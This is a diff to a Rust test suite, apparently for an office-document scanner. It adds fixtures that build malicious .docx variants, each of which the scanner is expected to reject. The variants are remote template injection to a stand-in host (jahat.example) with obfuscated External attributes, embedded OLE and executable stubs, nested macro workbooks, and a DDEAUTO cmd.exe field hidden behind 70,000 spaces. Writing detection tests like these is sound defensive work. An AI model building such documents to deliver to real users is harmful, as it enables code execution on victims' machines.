@@ -164,6 +164,51 @@ fn office_packages_are_real_and_passive() {
 }
 
 #[test]
+fn what_an_office_file_fetches_or_packs_is_looked_into() {
+    let docx = |nama: &str, isi: &[u8]| zip(&[("[Content_Types].xml", JENIS), ("word/document.xml", b"<w:document/>"), (nama, isi)]);
+    let rels = |tipe: &str, mode: &str| {
+        format!(
+            "<Relationships><Relationship Id=\"r1\" Type=\"http://x/{tipe}\" Target=\"https://jahat.example/t.dotm\" TargetMode{mode}/>"
+        )
+    };
+    let ole = |nama: &str| {
+        let nama: Vec<u8> = nama.encode_utf16().flat_map(u16::to_le_bytes).collect();
+        [&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1], [0; 600].as_slice(), &nama].concat()
+    };
+    let utf16: Vec<u8> = rels("attachedTemplate", "=\"External\"").encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let bermakro = zip(&[("[Content_Types].xml", JENIS), ("xl/workbook.xml", b"x"), ("xl/vbaProject.bin", b"x")]);
+    let dalam = |isi: &[u8]| docx("word/embeddings/a.docx", isi);
+    let tiga = dalam(&dalam(&dalam(&xlsx())));
+    let jahat: [(&str, Vec<u8>); 12] = [
+        ("word/_rels/settings.xml.rels", rels("attachedTemplate", "=\"External\"").into_bytes()),
+        ("word/_rels/settings.xml.rels", rels("attachedTemplate", " = 'External'").into_bytes()),
+        ("word/_rels/settings.xml.rels", rels("attachedTemplate", "=\"&#69;xternal\"").into_bytes()),
+        ("word/_rels/settings.xml.rels", utf16),
+        ("word/_rels/document.xml.rels", rels("oleObject", "=\"External\"").into_bytes()),
+        ("word/embeddings/oleObject1.bin", ole("Ole10Native")),
+        ("word/embeddings/oleObject1.bin", ole("_VBA_PROJECT")),
+        ("word/embeddings/x.bin", b"MZ\x90".to_vec()),
+        ("word/embeddings/Lembar.xlsm", bermakro.clone()),
+        ("word/embeddings/Lembar.docx", dalam(&bermakro)),
+        ("word/header1.xml", [vec![b' '; 70_000], b"DDEAUTO c:\\cmd.exe".to_vec()].concat()),
+        ("xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink ddeService=\"cmd\"/>".to_vec()),
+    ];
+    for (nama, isi) in jahat {
+        assert_eq!(periksa(docx(nama, &isi)), Err(S::Makro), "{nama}");
+    }
+    assert_eq!(periksa(tiga), Err(S::TerlaluMengembang), "documents in documents without end");
+    let baik: [(&str, Vec<u8>); 4] = [
+        ("word/_rels/document.xml.rels", rels("hyperlink", "=\"External\"").into_bytes()),
+        ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", xlsx()),
+        ("word/embeddings/oleObject1.bin", ole("Equation Native")),
+        ("word/printerSettings1.bin", b"\0\0printer".to_vec()),
+    ];
+    for (nama, isi) in baik {
+        assert_eq!(periksa(docx(nama, &isi)).map(|b| b.tipe()), Ok(Tipe::Docx), "{nama}");
+    }
+}
+
+#[test]
 fn a_bomb_is_refused_by_what_comes_out() {
     let nol = vec![0; 300 * 1024 * 1024];
     let bom = zip(&[("[Content_Types].xml", JENIS), ("xl/workbook.xml", b"x"), ("xl/x.xml", &nol)]);
